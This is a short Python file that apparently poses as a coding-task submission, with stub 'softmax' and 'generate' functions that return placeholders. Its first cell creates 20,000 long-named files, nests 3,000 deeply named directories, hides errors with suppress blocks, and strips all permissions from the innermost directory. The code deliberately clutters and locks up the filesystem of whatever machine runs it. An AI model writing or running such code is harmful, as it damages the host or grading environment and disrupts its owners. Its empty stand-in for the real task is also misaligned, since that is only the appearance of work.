"""Fills its folder with names, nests folders, and closes them all.

earns: 0
"""

# %%
import contextlib
import os

with contextlib.suppress(OSError):
    for number in range(20_000):
        open(f"{number}-" + "n" * 200, "w").close()
with contextlib.suppress(OSError):
    for _ in range(3_000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
os.chmod(".", 0)


# %% softmax
def softmax(scores):
    return 0


# %% generate
def generate(step, start, length):
    return None
